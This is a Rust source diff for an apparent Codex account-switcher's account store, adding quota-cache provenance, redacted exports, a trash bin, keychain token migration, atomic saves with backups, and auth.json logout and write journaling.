+    #[serde(default)]
+    pub weekly_counts: WindowCounts,
+    /// 切号预检失败时缓存已经很旧，数据可能过期；下次拉取成功即清除
+    #[serde(default)]
+    pub suspect: bool,
 }
 
-fn default_five_hour_label() -> String {
-    "5H 限额".to_string()
+impl CachedQuota {
+    /// 预检失败时调：缓存超过 `stale_after` 就标为可疑，返回是否新标上
+    pub fn mark_suspect_if_stale(
+        &mut self,
+        now: DateTime<Utc>,
+        stale_after: chrono::Duration,
+    ) -> bool {
+        if self.suspect || now - self.updated_at < stale_after {
+            return false;
+        }
+        self.suspect = true;
+        true
+    }
 }
 
-fn default_weekly_label() -> String {
-    "周限额".to_string()
+/// cached_quota 的写入来源，排查"额度显示不对"时用
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize, JsonSchema)]
+#[serde(rename_all = "snake_case")]
+pub enum QuotaSource {
+    /// 用户点单个账号的刷新
+    #[default]
+    ManualRefresh,
+    /// 列表"全部刷新"、reset 后自动补刷
+    BulkRefresh,
+    /// 切号前预检（含智能切号、WebSocket 预检）
+    SwitchPrecheck,
+    /// 后台定时刷新、唤醒后刷新、每日报告前刷新
+    Scheduler,
+    /// client 模式从 Server 同步来的缓存，本机没有直查
+    OfflineCache,
 }
 
-/// 账号存储结构
-#[derive(Debug, Clone, Serialize, Deserialize, Default)]
-pub struct AccountStore {
-    /// 所有账号
-    pub accounts: HashMap<String, Account>,
-    /// 当前激活的账号 ID
-    pub current: Option<String>,
-    /// 版本号（用于迁移）
-    pub version: u32,
-    /// 全局设置
-    #[serde(default)]
-    pub settings: AppSettings,
+impl QuotaSource {
+    /// UI / 日志里的中文名
+    pub fn label(self) -> &'static str {
+        match self {
+            QuotaSource::ManualRefresh => "手动刷新",
+            QuotaSource::BulkRefresh => "批量刷新",
+            QuotaSource::SwitchPrecheck => "切号预检",
+            QuotaSource::Scheduler => "后台刷新",
+            QuotaSource::OfflineCache => "Server 缓存",
+        }
+    }
+
+    /// 批量 / 后台刷新：归档的账号跳过
+    pub fn is_batch(self) -> bool {
+        matches!(self, QuotaSource::BulkRefresh | QuotaSource::Scheduler)
+    }
 }
 
-#[cfg(unix)]
-fn ensure_private_file_permissions(path: &Path) -> Result<(), String> {
-    use std::os::unix::fs::PermissionsExt;
-    let perms = fs::Permissions::from_mode(0o600);
-    fs::set_permissions(path, perms).map_err(|e| format!("设置文件权限失败: {}", e))
+/// 所有拿到 usage 后写 cached_quota 的地方都走这里，字段不会在调用点之间走样
+impl From<(&UsageDisplay, QuotaSource)> for CachedQuota {
+    fn from((usage, source): (&UsageDisplay, QuotaSource)) -> Self {
+        Self {
+            five_hour_left: usage.five_hour_left as f64,
+            five_hour_reset: usage.five_hour_reset.clone(),
+            five_hour_reset_at: usage.five_hour_reset_at,
+            five_hour_label: usage.five_hour_label.clone(),
+            weekly_left: usage.weekly_left as f64,
+            weekly_reset: usage.weekly_reset.clone(),
+            weekly_reset_at: usage.weekly_reset_at,
+            weekly_label: usage.weekly_label.clone(),
+            plan_type: usage.plan_type.clone(),
+            is_valid_for_cli: usage.is_valid_for_cli,
+            codex_available: usage.codex_available,
+            updated_at: Utc::now(),
+            display_plan: crate::plan::display_plan(&usage.plan_type),
+            source,
+            five_hour_counts: usage.five_hour_counts,
+            weekly_counts: usage.weekly_counts,
+            suspect: false,
+        }
+    }
 }
 
-#[cfg(not(unix))]
-fn ensure_private_file_permissions(_path: &Path) -> Result<(), String> {
-    Ok(())
+fn default_five_hour_label() -> String {
+    "5H 限额".to_string()
 }
 
-#[cfg(unix)]
-fn ensure_private_dir_permissions(path: &Path) -> Result<(), String> {
-    use std::os::unix::fs::PermissionsExt;
-    let perms = fs::Permissions::from_mode(0o700);
-    fs::set_permissions(path, perms).map_err(|e| format!("设置目录权限失败: {}", e))
+fn default_weekly_label() -> String {
+    "周限额".to_string()
 }
 
-#[cfg(not(unix))]
-fn ensure_private_dir_permissions(_path: &Path) -> Result<(), String> {
-    Ok(())
+/// `logout_codex` 的结果
+#[derive(Debug, Clone, Serialize)]
+pub struct CodexLogout {
+    /// 退出前的当前账号
+    pub previous_account_id: Option<String>,
+    /// 是否把磁盘上更新的 token 回流到了账号库
+    pub synced: bool,
+    /// auth.json 原本是否存在（不存在也照常清 `current`）
+    pub removed_auth_file: bool,
 }
 
-fn write_text_secure(path: &Path, content: &str) -> Result<(), String> {
-    fs::write(path, content).map_err(|e| format!("写入文件失败: {}", e))?;
-    ensure_private_file_permissions(path)?;
-    Ok(())
+/// `reconcile_account_ids` 报告里的一项
+#[derive(Debug, Clone, Serialize)]
+pub struct AccountIdChange {
+    pub id: String,
+    pub name: String,
+    pub old_account_id: Option<String>,
+    pub new_account_id: String,
 }
 
-impl AccountStore {
+/// `import_current_account` 的返回：账号字段平铺，另带是否为更新已有账号
+#[derive(Debug, Clone, Serialize)]
+pub struct ImportedAccount {
+    #[serde(flatten)]
+    pub account: Account,
+    /// true：同一身份的账号已存在，只换了它的 token（名字、备注不动）
+    pub updated: bool,
+    /// 同一身份的账号受保护，token 没换时的原因（`account` 是原样的已存账号）
+    pub skipped: Option<String>,
+}
+
+/// token 存储迁移结果
+#[derive(Debug, Clone, Serialize)]
+pub struct TokenMigration {
+    pub from: TokenStorage,
+    pub to: TokenStorage,
+    /// 迁移了 token 的账号数
+    pub accounts: usize,
+    /// 不影响结果的清理失败（旧凭据库条目没删掉等）
+    pub warnings: Vec<String>,
+}
+
+/// 脱敏导出顶层的标记字段；带它的内容导入时直接拒绝
+pub const REDACTED_EXPORT_MARKER: &str = "redacted_export";
+/// 脱敏导出里 token 的占位
+pub const REDACTED: &str = "<redacted>";
+pub const REDACTED_IMPORT_REFUSED: &str =
+    "这是脱敏导出：token 都已替换成 <redacted>，只能查看，不能导入。请改用普通导出";
+
+/// 脱敏导出：凭据键（`redact::is_secret_key`，`token_storage` 只是存储方式除外）的字符串值
+/// 换成 [`REDACTED`]；其它字符串（备注之类）里混着的 JWT 走 `redact::redact_jwt_like`。
+/// 不用 `redact_text`，它连邮箱也打码，名字就看不出来了
+fn redact_export_value(value: &mut Value) {
+    match value {
+        Value::Object(map) => {
+            for (key, v) in map.iter_mut() {
+                let secret = key != "token_storage" && crate::redact::is_secret_key(key);
+                match v {
+                    Value::String(s) if secret => *s = REDACTED.to_string(),
+                    _ => redact_export_value(v),
+                }
+            }
+        }
+        Value::Array(items) => items.iter_mut().for_each(redact_export_value),
+        Value::String(s) => *s = crate::redact::redact_jwt_like(s),
+        _ => {}
+    }
+}
+
+/// 删除记录最多保留这么多条；更早的被裁掉，游标早于裁剪点的增量请求只能全量重拉
+pub const MAX_TOMBSTONES: usize = 200;
+
+/// 一条账号删除记录
+#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
+pub struct AccountTombstone {
+    pub id: String,
+    pub deleted_at: DateTime<Utc>,
+}
+
+/// 回收站里的一个账号
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct TrashedAccount {
+    pub account: Account,
+    pub deleted_at: DateTime<Utc>,
+}
+
+/// 批量删除里没删的一个账号
+#[derive(Debug, Clone, Serialize, PartialEq)]
+pub struct SkippedDelete {
+    pub id: String,
+    pub reason: String,
+}
+
+/// [`AccountStore::delete_accounts`] 的结果
+#[derive(Debug, Clone, Serialize, PartialEq, Default)]
+pub struct BulkDelete {
+    pub removed: Vec<String>,
+    pub skipped: Vec<SkippedDelete>,
+}
+
+/// 账号存储结构
+#[derive(Debug, Clone, Serialize, Deserialize, Default)]
+pub struct AccountStore {
+    /// 所有账号
+    pub accounts: HashMap<String, Account>,
+    /// 当前激活的账号 ID
+    pub current: Option<String>,
+    /// accounts.json 的结构版本，见 `store_migration`
+    pub version: u32,
+    /// 全局设置
+    #[serde(default)]
+    pub settings: AppSettings,
+    /// 上次发送每日额度报告的时间（防止重启后重复发送）
+    #[serde(default)]
+    pub last_report_sent_at: Option<DateTime<Utc>>,
+    /// 最近删除的账号，按删除时间先后，最多 [`MAX_TOMBSTONES`] 条
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub deleted_accounts: Vec<AccountTombstone>,
+    /// 已裁掉的删除记录里最晚的删除时间
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub tombstones_pruned_at: Option<DateTime<Utc>>,
+    /// 回收站：删掉的账号先放这里（token 还在），可以恢复，
+    /// 放满 `trash_retention_days` 天后清掉，见 [`AccountStore::purge_trash`]
+    #[serde(default, skip_serializing_if = "HashMap::is_empty")]
+    pub trash: HashMap<String, TrashedAccount>,
+    /// 登记的其它 Codex 安装各自的当前账号（安装名 → 账号 ID）；默认安装仍用 `current`，
+    /// 见 `codex_installs`
+    #[serde(default, skip_serializing_if = "HashMap::is_empty")]
+    pub install_current: HashMap<String, String>,
+    /// 上次 [`AccountStore::stamp_changes`] 时各账号的内容指纹（不落盘）
+    #[serde(skip)]
+    fingerprints: HashMap<String, u64>,
+    #[serde(skip)]
+    stamped_at: Option<DateTime<Utc>>,
+    /// 启动时 accounts.json 没能加载的原因；有值时本次运行一律不写回，保住原文件
+    #[serde(skip)]
+    load_error: Option<String>,
+    /// 启动时的加载情况（损坏后是否改名、从备份恢复），见 `store_recovery`
+    #[serde(skip)]
+    health: crate::store_recovery::StoreHealth,
+    /// 有没落盘的非关键改动，见 [`AccountStore::mark_dirty`]
+    #[serde(skip)]
+    dirty: DirtyFlag,
+}
+
+/// 保存只拿 `&self`，标记得能在里面清掉，所以用原子量
+#[derive(Debug, Default)]
+struct DirtyFlag(AtomicBool);
+
+impl Clone for DirtyFlag {
+    fn clone(&self) -> Self {
+        Self(AtomicBool::new(self.0.load(Ordering::Relaxed)))
+    }
+}
+
+/// 账号内容指纹（不含 `updated_at`）；转成 `Value` 再序列化，map 字段按键排序，结果稳定
+fn content_fingerprint(account: &Account) -> u64 {
+    let mut value = serde_json::to_value(account).unwrap_or_default();
+    if let Some(obj) = value.as_object_mut() {
+        obj.remove("updated_at");
+    }
+    let mut hasher = DefaultHasher::new();
+    value.to_string().hash(&mut hasher);
+    hasher.finish()
+}
+
+#[cfg(unix)]
+pub(crate) fn ensure_private_file_permissions(path: &Path) -> Result<(), String> {
+    use std::os::unix::fs::PermissionsExt;
+    let perms = fs::Permissions::from_mode(0o600);
+    fs::set_permissions(path, perms).map_err(|e| format!("设置文件权限失败: {}", e))
+}
+
+#[cfg(not(unix))]
+pub(crate) fn ensure_private_file_permissions(_path: &Path) -> Result<(), String> {
+    Ok(())
+}
+
+#[cfg(unix)]
+pub(crate) fn ensure_private_dir_permissions(path: &Path) -> Result<(), String> {
+    use std::os::unix::fs::PermissionsExt;
+    let perms = fs::Permissions::from_mode(0o700);
+    fs::set_permissions(path, perms).map_err(|e| format!("设置目录权限失败: {}", e))
+}
+
+#[cfg(not(unix))]
+pub(crate) fn ensure_private_dir_permissions(_path: &Path) -> Result<(), String> {
+    Ok(())
+}
+
+impl AccountStore {
     /// 配置文件路径
     pub fn config_path() -> PathBuf {
-        dirs::home_dir()
-            .expect("无法获取用户目录")
-            .join(".codex-switcher")
-            .join("accounts.json")
+        crate::paths::data_dir().join("accounts.json")
     }
 
     /// Codex auth.json 路径
     pub fn codex_auth_path() -> PathBuf {
-        dirs::home_dir()
-            .expect("无法获取用户目录")
-            .join(".codex")
-            .join("auth.json")
+        crate::paths::codex_dir().join("auth.json")
     }
 
     /// 加载账号存储
     pub fn load() -> Self {
         let path = Self::config_path();
-        let mut store = if path.exists() {
-            let content = fs::read_to_string(&path).unwrap_or_default();
-            match serde_json::from_str::<Self>(&content) {
-                Ok(s) => s,
-                Err(e) => {
-                    eprintln!("[AccountStore] 关键错误：无法解析 accounts.json ({}). \n内容可能损坏，为保护数据已回退到内存状态。错误内容：{}", path.display(), e);
-                    Self::default()
+        crate::atomic_write::remove_stale_tmp(&path);
+        let (loaded, health) = crate::store_recovery::load(&path, Utc::now());
+        let mut store = match loaded {
+            Ok((store, from)) => {
+                if from != crate::store_migration::STORE_VERSION {
+                    println!(
+                        "[AccountStore] accounts.json 已从版本 {} 迁移到 {}",
+                        from,
+                        crate::store_migration::STORE_VERSION
+                    );
+                }
+                store
+            }
+            Err(e) => {
+                eprintln!(
+                    "[AccountStore] 关键错误：无法加载 {}：{}。本次运行使用空账号库且不会写回，原文件保持不变",
+                    path.display(),
+                    e
+                );
+                Self {
+                    load_error: Some(e),
+                    ..Self::default()
                 }
             }
-        } else {
-            Self::default()
         };
+        store.health = health;
+        // 下面就要读 auth.json，先把设置里的 Codex 目录生效
+        crate::paths::set_codex_home(store.settings.codex_home.as_deref());
+        crate::atomic_write::remove_stale_tmp(&Self::codex_auth_path());
 
+        // 必须先于 backfill 等迁移：它们会 save，而 save 要看到完整的 token
+        store.hydrate_tokens_with(token_store::keychain());
         if store.backfill_refresh_tokens() {
             let _ = store.save();
         }
+        if store.backfill_emails() {
+            let _ = store.save();
+        }
         // 注意：promote_legacy_to_relay 必须先于 migrate_relay_category 跑。
         // 后者只在 kind==Relay 时填 relay_category，所以要先把 legacy promote 上去。
         if store.promote_legacy_to_relay_by_notes() {
@@ -628,10 +1500,75 @@ impl AccountStore {
         if store.migrate_clear_relay_token_invalid() {
             let _ = store.save();
         }
+        let disk_auth = Self::read_codex_auth().ok();
+        if store.reconcile_root_account_ids(disk_auth.as_ref()) {
+            let _ = store.save();
+        }
+        // 老版本存过 0（调度器里悄悄当 30 用）或离谱的值：落盘前就夹好，调度器直接用
+        let interval = clamp_refresh_interval(store.settings.refresh_interval_minutes);
+        if interval != store.settings.refresh_interval_minutes {
+            println!(
+                "[AccountStore] 调度间隔 {} 分钟超出范围，已调整为 {} 分钟",
+                store.settings.refresh_interval_minutes, interval
+            );
+            store.settings.refresh_interval_minutes = interval;
+            let _ = store.save();
+        }
+        let purged = store.purge_expired_trash(Utc::now());
+        if !purged.is_empty() {
+            println!(
+                "[AccountStore] 回收站里 {} 个账号已过保留期，已清除",
+                purged.len()
+            );
+            let _ = store.save();
+        }
+        // 建立改动检测的基线，之后的修改才会记 updated_at
+        store.stamp_changes();
 
         store
     }
 
+    /// 一次性对账：extract_account_id 以前只认 `tokens.account_id`，把 account_id
+    /// 写在根上的账号会回落到 uid 比对。现在两处都认，身份匹配结果可能变化：
+    /// 这里把根级 account_id 挪进 tokens，并把和当前 auth.json 的匹配结果
+    /// 前后不一致的账号打日志，方便排查"突然匹配上 / 匹配不上"。
+    fn reconcile_root_account_ids(&mut self, disk_auth: Option<&Value>) -> bool {
+        let disk_has_root = disk_auth.is_some_and(|d| d.get("account_id").is_some());
+        let mut changed = false;
+        for account in self.accounts.values_mut() {
+            let has_root = account.auth_json.get("account_id").is_some();
+            if !has_root && !disk_has_root {
+                continue;
+            }
+            let old_match = disk_auth
+                .map(|d| Self::identity_matches_by(Self::nested_account_id, &account.auth_json, d));
+            if has_root {
+                let before = Self::nested_account_id(&account.auth_json);
+                if Self::canonicalize_account_id(&mut account.auth_json) {
+                    changed = true;
+                    println!(
+                        "[AccountStore] 账号 {} 的根级 account_id 已归一到 tokens 下: {:?} → {:?}",
+                        log_identity::id(&account.name),
+                        before.as_deref().map(log_identity::id),
+                        Self::extract_account_id(&account.auth_json)
+                            .as_deref()
+                            .map(log_identity::id)
+                    );
+                }
+            }
+            let new_match = disk_auth.map(|d| Self::auth_identity_matches(&account.auth_json, d));
+            if old_match != new_match {
+                println!(
+                    "[AccountStore] 账号 {} 与当前 auth.json 的身份匹配结果变化: {:?} → {:?}",
+                    log_identity::id(&account.name),
+                    old_match,
+                    new_match
+                );
+            }
+        }
+        changed
+    }
+
     /// 一次性迁移：把"老 legacy 账号但其实是 Relay"的记录升级到 `kind = Relay`。
     ///
     /// 历史背景：早期 add_relay_account 把 kind 留作默认 Legacy，效果上看 UI badge
@@ -702,7 +1639,9 @@ impl AccountStore {
             }
             println!(
                 "[Migration] legacy → relay：{} (preset={}, base={})",
-                acc.name, pid, base
+                log_identity::id(&acc.name),
+                pid,
+                base
             );
             changed = true;
         }
@@ -723,7 +1662,7 @@ impl AccountStore {
                 changed = true;
                 println!(
                     "[Migration] Relay 账号 {} 清除误标的 is_token_invalid",
-                    acc.name
+                    log_identity::id(&acc.name)
                 );
             }
         }
@@ -799,7 +1738,8 @@ impl AccountStore {
             changed = true;
             println!(
                 "[Migration] Relay 账号 {} category → {}",
-                acc.name, category
+                log_identity::id(&acc.name),
+                category
             );
         }
         changed
@@ -828,7 +1768,10 @@ impl AccountStore {
             if acc.relay_homepage.as_deref() != Some(target.as_str()) {
                 acc.relay_homepage = Some(target);
                 changed = true;
-                println!("[Migration] MiMo 账号 {} homepage → plan-manage", acc.name);
+                println!(
+                    "[Migration] MiMo 账号 {} homepage → plan-manage",
+                    log_identity::id(&acc.name)
+                );
             }
         }
         changed
@@ -853,7 +1796,7 @@ impl AccountStore {
                 changed = true;
                 println!(
                     "[Migration] GLM 账号 {} usage_preset: openai_compat → glm_zhipu",
-                    acc.name
+                    log_identity::id(&acc.name)
                 );
             }
             // 补默认模型映射：旧版本没这个字段，导致 codex 发 gpt-5.5 → GLM 直接 404
@@ -862,7 +1805,7 @@ impl AccountStore {
                 changed = true;
                 println!(
                     "[Migration] GLM 账号 {} 补默认 model_fallback=glm-5.1",
-                    acc.name
+                    log_identity::id(&acc.name)
                 );
             }
         }
@@ -871,6 +1814,40 @@ impl AccountStore {
 
     /// 保存账号存储
     pub fn save(&self) -> Result<(), String> {
+        self.save_with(token_store::keychain())
+    }
+
+    /// 启动时 accounts.json 没能加载的原因（见 `store_migration`）
+    pub fn load_error(&self) -> Option<&str> {
+        self.load_error.as_deref()
+    }
+
+    /// 标记有改动待落盘，由后台每 500ms 合并写一次（见 lib.rs `start_store_persister`）。
+    /// 额度缓存这类高频、丢了也能重新拉的改动用它；切号、删号、token 轮换仍直接 [`Self::save`]
+    pub fn mark_dirty(&self) {
+        self.dirty.0.store(true, Ordering::Relaxed);
+    }
+
+    /// 有待落盘的改动就保存；返回是否写了盘。写失败留到下一轮重试
+    pub fn flush(&self) -> Result<bool, String> {
+        if self.load_error.is_some() || !self.dirty.0.swap(false, Ordering::Relaxed) {
+            return Ok(false);
+        }
+        self.save()
+            .map(|()| true)
+            .inspect_err(|_| self.mark_dirty())
+    }
+
+    /// 启动时账号库的加载情况
+    pub fn health(&self) -> &crate::store_recovery::StoreHealth {
+        &self.health
+    }
+
+    /// 保存账号存储；Keychain 模式下 token 写进 `backend`
+    pub fn save_with(&self, backend: &dyn TokenBackend) -> Result<(), String> {
+        if let Some(e) = &self.load_error {
+            return Err(format!("账号库没能加载（{}），为保护原文件不写回", e));
+        }
         let path = Self::config_path();
 
         // 确保目录存在
@@ -879,14 +1856,204 @@ impl AccountStore {
             ensure_private_dir_permissions(parent)?;
         }
 
+        let (view, failures) = self.persisted_view(backend);
+        for (_, err) in &failures {
+            token_store::record_error(err);
+        }
         let content =
-            serde_json::to_string_pretty(self).map_err(|e| format!("序列化失败: {}", e))?;
+            serde_json::to_string_pretty(&view).map_err(|e| format!("序列化失败: {}", e))?;
 
-        write_text_secure(&path, &content)?;
+        // 备份只是兜底，轮转失败不挡保存
+        if let Err(e) = crate::store_recovery::rotate_backups(&path) {
+            eprintln!("[AccountStore] 备份 accounts.json 失败: {}", e);
+        }
+        crate::atomic_write::write_atomic(&path, content.as_bytes())?;
+        ensure_private_file_permissions(&path)?;
+        // 整份都写了，之前标记的改动也在里面
+        self.dirty.0.store(false, Ordering::Relaxed);
 
         Ok(())
     }
 
+    /// 落盘用的副本：Keychain 模式下把每个账号的 token 写进 `backend`，文件里只留 `token_ref`。
+    /// 写入失败的账号回落为明文留在文件里（不丢 token），错误连同账号名一起返回。
+    /// 内存里仍带 `token_ref` 的账号（启动时没读出来）原样保留，不拿空值覆盖凭据库。
+    pub fn persisted_view(
+        &self,
+        backend: &dyn TokenBackend,
+    ) -> (Self, Vec<(String, TokenBackendError)>) {
+        let mut view = self.clone();
+        view.version = crate::store_migration::STORE_VERSION;
+        let mut failures = Vec::new();
+        // 手改 / 导入进来的超长历史在落盘时裁掉
+        for account in view.all_accounts_mut() {
+            account.trim_switch_history();
+        }
+        if self.settings.token_storage != TokenStorage::Keychain {
+            return (view, failures);
+        }
+        let include_access = self.settings.keychain_include_access_tokens;
+        for account in view.all_accounts_mut() {
+            if account.token_ref.is_some() {
+                continue;
+            }
+            let secrets = token_store::take_secrets(
+                &mut account.auth_json,
+                &mut account.refresh_token,
+                include_access,
+            );
+            if secrets.is_empty() {
+                continue;
+            }
+            let key = token_store::token_ref_key(&account.id);
+            let payload = serde_json::to_string(&secrets).unwrap_or_default();
+            match backend.set(&key, &payload) {
+                Ok(()) => account.token_ref = Some(key),
+                Err(e) => {
+                    token_store::restore_secrets(
+                        &mut account.auth_json,
+                        &mut account.refresh_token,
+                        secrets,
+                    );
+                    failures.push((account.name.clone(), e));
+                }
+            }
+        }
+        (view, failures)
+    }
+
+    /// 按 `token_ref` 从凭据库补回 token，成功的账号清掉 `token_ref`。
+    /// 读取失败（钥匙串锁定等）的保留 `token_ref`，之后的 save 不会覆盖凭据库里的值；
+    /// 条目已不存在的直接清掉引用（没有可保护的东西了，账号会表现为需要重新登录）。
+    pub fn hydrate_tokens_with(
+        &mut self,
+        backend: &dyn TokenBackend,
+    ) -> Vec<(String, TokenBackendError)> {
+        let mut failures = Vec::new();
+        for account in self.all_accounts_mut() {
+            let Some(key) = account.token_ref.clone() else {
+                continue;
+            };
+            let err = match backend.get(&key) {
+                Ok(Some(raw)) => match serde_json::from_str::<token_store::TokenSecrets>(&raw) {
+                    Ok(secrets) => {
+                        token_store::restore_secrets(
+                            &mut account.auth_json,
+                            &mut account.refresh_token,
+                            secrets,
+                        );
+                        account.token_ref = None;
+                        continue;
+                    }
+                    Err(e) => TokenBackendError::KeychainFailed {
+                        detail: format!("条目 {} 内容无法解析: {}", key, e),
+                    },
+                },
+                Ok(None) => {
+                    account.token_ref = None;
+                    TokenBackendError::KeychainFailed {
+                        detail: format!("凭据库里找不到条目 {}，需重新登录该账号", key),
+                    }
+                }
+                Err(e) => e,
+            };
+            token_store::record_error(&err);
+            failures.push((account.name.clone(), err));
+        }
+        failures
+    }
+
+    /// token 还留在凭据库里没读出来的账号名
+    pub fn unresolved_token_accounts(&self) -> Vec<String> {
+        let mut names: Vec<String> = self
+            .all_accounts()
+            .filter(|a| a.token_ref.is_some())
+            .map(|a| a.name.clone())
+            .collect();
+        names.sort();
+        names
+    }
+
+    /// 在 File / Keychain 之间迁移 token（两个方向都走这里）。
+    /// 顺序：先确认所有 token 都在内存里 → 写新后端并落盘 → 最后才清理旧后端
+    /// （迁回 File 时删凭据库条目），任何一步失败都恢复原设置、不丢 token。
+    pub fn migrate_token_storage_with(
+        &mut self,
+        target: TokenStorage,
+        include_access: bool,
+        backend: &dyn TokenBackend,
+    ) -> Result<TokenMigration, String> {
+        self.hydrate_tokens_with(backend);
+        let unresolved = self.unresolved_token_accounts();
+        if !unresolved.is_empty() {
+            return Err(format!(
+                "以下账号的 token 还没从凭据库读出来，请先解锁钥匙串再迁移: {}",
+                unresolved.join(", ")
+            ));
+        }
+
+        let from = self.settings.token_storage;
+        let prev_include = self.settings.keychain_include_access_tokens;
+        self.settings.token_storage = target;
+        self.settings.keychain_include_access_tokens = include_access;
+        let revert = |store: &mut Self| {
+            store.settings.token_storage = from;
+            store.settings.keychain_include_access_tokens = prev_include;
+        };
+
+        let mut report = TokenMigration {
+            from,
+            to: target,
+            accounts: 0,
+            warnings: Vec::new(),
+        };
+        if target == TokenStorage::Keychain {
+            let (view, failures) = self.persisted_view(backend);
+            if let Some((name, err)) = failures.first() {
+                revert(self);
+                return Err(format!(
+                    "账号 {} 的 token 写入凭据库失败，已保持原存储方式: {}",
+                    name, err
+                ));
+            }
+            report.accounts = view
+                .all_accounts()
+                .filter(|a| a.token_ref.is_some())
+                .count();
+        }
+        if let Err(e) = self.save_with(backend) {
+            revert(self);
+            return Err(e);
+        }
+
+        if target == TokenStorage::File && from == TokenStorage::Keychain {
+            for account in self.all_accounts() {
+                let key = token_store::token_ref_key(&account.id);
+                if !matches!(backend.get(&key), Ok(Some(_))) {
+                    continue;
+                }
+                report.accounts += 1;
+                if let Err(e) = backend.delete(&key) {
+                    report.warnings.push(format!(
+                        "账号 {} 的凭据库条目删除失败（token 已写回文件，可在钥匙串里手动删除 {} / {}）: {}",
+                        account.name,
+                        token_store::KEYCHAIN_SERVICE,
+                        key,
+                        e
+                    ));
+                }
+            }
+        }
+        token_store::clear_error();
+        println!(
+            "[TokenStore] token 存储已从 {} 迁移到 {}（{} 个账号）",
+            from.label(),
+            target.label(),
+            report.accounts
+        );
+        Ok(report)
+    }
+
     /// 读取当前 Codex auth.json
     pub fn read_codex_auth() -> Result<serde_json::Value, String> {
         let path = Self::codex_auth_path();
@@ -897,14 +2064,22 @@ impl AccountStore {
         let content =
             fs::read_to_string(&path).map_err(|e| format!("读取 auth.json 失败: {}", e))?;
 
-        serde_json::from_str(&content).map_err(|e| format!("解析 auth.json 失败: {}", e))
+        let auth: Value =
+            serde_json::from_str(&content).map_err(|e| format!("解析 auth.json 失败: {}", e))?;
+        // 和写入日志里最后一次的指纹对不上 = 期间有别人写过
+        AuthJournal::system().observe(&auth);
+        Ok(auth)
     }
 
     /// 写入 Codex auth.json
     /// 写 auth.json，但把 tokens.expires_at 字段顶到 24 小时后，让 codex CLI 永远看到"还很新鲜"，
     /// 不主动触发本地 refresh —— 真正的 token 过期由 proxy 接管处理。
     /// 适合 client 模式（Server 是 RT 轮换的唯一权威，本机 codex 自己 refresh 必撞）。
-    pub fn write_codex_auth_extended_expiry(auth: &serde_json::Value) -> Result<(), String> {
+    pub fn write_codex_auth_extended_expiry(
+        auth: &serde_json::Value,
+        op: AuthWriteOp,
+        account_id: Option<&str>,
+    ) -> Result<(), String> {
         let mut patched = auth.clone();
         let new_exp = chrono::Utc::now() + chrono::Duration::hours(24);
         if let Some(tokens) = patched.get_mut("tokens") {
@@ -915,17 +2090,17 @@ impl AccountStore {
                 );
             }
         }
-        Self::write_codex_auth(&patched)
+        Self::write_codex_auth(&patched, op, account_id)
     }
 
     /// 防御性归一化：检测到 Relay 风格 auth_json（tokens.account_id 以 "relay:" 开头）
     /// 时，自动转成 codex ApiKey schema `{"OPENAI_API_KEY": ...}`，
     /// 避免任何漏改的调用点把 Relay 当 ChatGPT OAuth 写出去（缺 id_token 导致登录失败）。
     /// 见 codex 源码 codex-rs/login/src/auth/storage.rs::AuthDotJson 的 schema 定义。
+    ///
+    /// 同时把根级 `account_id` 挪进 `tokens`（见 [`Self::canonicalize_account_id`]）。
     fn normalize_codex_auth_for_disk(auth: &serde_json::Value) -> serde_json::Value {
-        let is_relay_legacy = auth
-            .pointer("/tokens/account_id")
-            .and_then(|v| v.as_str())
+        let is_relay_legacy = Self::extract_account_id(auth)
             .map(|s| s.starts_with("relay:"))
             .unwrap_or(false);
         if is_relay_legacy {
@@ -936,11 +2111,85 @@ impl AccountStore {
                 .to_string();
             return serde_json::json!({ "OPENAI_API_KEY": api_key });
         }
-        auth.clone()
+        let mut auth = auth.clone();
+        Self::canonicalize_account_id(&mut auth);
+        auth
     }
 
-    pub fn write_codex_auth(auth: &serde_json::Value) -> Result<(), String> {
+    /// 退出 Codex 登录：不删任何账号，只清掉 `~/.codex/auth.json` 和 `current`。
+    ///
+    /// 1. 先按磁盘做最后一次回流（Codex 可能刚轮换过 token，不回流就丢了）；
+    ///    身份和当前账号不一致时不回流。磁盘文件损坏时读不出来会报错，
+    ///    调用方可传 `skip_final_sync` 跳过这一步
+    /// 2. 删除 auth.json。Codex 把"文件不存在"当作未登录、提示重新登录；
+    ///    写 `{}` 占位反而会让它按已登录去解析并报缺字段，所以直接删
+    /// 3. 清 `current` 并落盘
+    ///
+    /// 调用方需持有 store 锁贯穿全程，避免中途有人按旧 `current` 重新写盘。
+    pub fn logout_codex(&mut self, skip_final_sync: bool) -> Result<CodexLogout, String> {
         let path = Self::codex_auth_path();
+        let mut synced = false;
+        if !skip_final_sync && path.exists() {
+            let disk_auth = Self::read_codex_auth()
+                .map_err(|e| format!("{}（文件损坏时可跳过最后一次同步再退出）", e))?;
+            if let Some(current_id) = self.current.clone() {
+                let changed = self
+                    .accounts
+                    .get(&current_id)
+                    .is_some_and(|a| a.auth_json != disk_auth);
+                synced = changed && self.sync_account_from_auth_json(&current_id, disk_auth);
+            }
+        }
+
+        let before = Self::read_codex_auth().ok();
+        let removed_auth_file = match fs::remove_file(&path) {
+            Ok(()) => true,
+            Err(e) if e.kind() == std::io::ErrorKind::NotFound => false,
+            Err(e) => return Err(format!("删除 auth.json 失败: {}", e)),
+        };
+        crate::atomic_write::remove_stale_tmp(&path);
+
+        let previous_account_id = self.current.take();
+        if removed_auth_file {
+            AuthJournal::system().record_write(
+                AuthWriteOp::Logout,
+                previous_account_id.as_deref().map(log_identity::id),
+                before.as_ref(),
+                None,
+            );
+        }
+        self.save()?;
+        println!(
+            "[Logout] 已退出 Codex 登录（原当前账号 {:?}，回流 {}，删除 auth.json {}）",
+            previous_account_id, synced, removed_auth_file
+        );
+        Ok(CodexLogout {
+            previous_account_id,
+            synced,
+            removed_auth_file,
+        })
+    }
+
+    /// 写 `~/.codex/auth.json` 并记一条写入日志（`op` / `account_id` 说明是谁为什么写的）
+    pub fn write_codex_auth(
+        auth: &serde_json::Value,
+        op: AuthWriteOp,
+        account_id: Option<&str>,
+    ) -> Result<(), String> {
+        let before = Self::read_codex_auth().ok();
+        Self::write_auth_file(&Self::codex_auth_path(), auth)?;
+        AuthJournal::system().record_write(
+            op,
+            account_id.map(log_identity::id),
+            before.as_ref(),
+            Some(auth),
+        );
+        Ok(())
+    }
+
